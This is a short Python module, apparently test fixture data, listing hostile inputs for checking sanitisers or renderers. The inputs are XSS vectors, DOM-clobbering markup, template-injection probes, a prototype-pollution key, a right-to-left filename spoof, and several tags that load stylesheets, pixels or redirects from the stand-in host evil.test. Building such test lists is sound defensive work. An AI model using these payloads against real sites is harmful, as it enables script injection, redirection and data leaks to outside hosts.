"""Texts that try to become more than text."""

PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' autofocus onfocus=alert(1) x='",
    "</title><script>alert(1)</script>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
    "<form id=search><input name=attributes>",
    "{{ 7*7 }}{% raw %}${7*7}",
    "__proto__",
    "\u202egnp.exe\u202c",
    "<style>*{background:url(http://evil.test/x)}</style>",
    "<link rel=stylesheet href=//evil.test/x><base href=//evil.test/>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/'>",
    "<img src=http://evil.test/pixel.png>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!--><script>alert(1)</script>-->",
    "<details open ontoggle=alert(1)>",
)
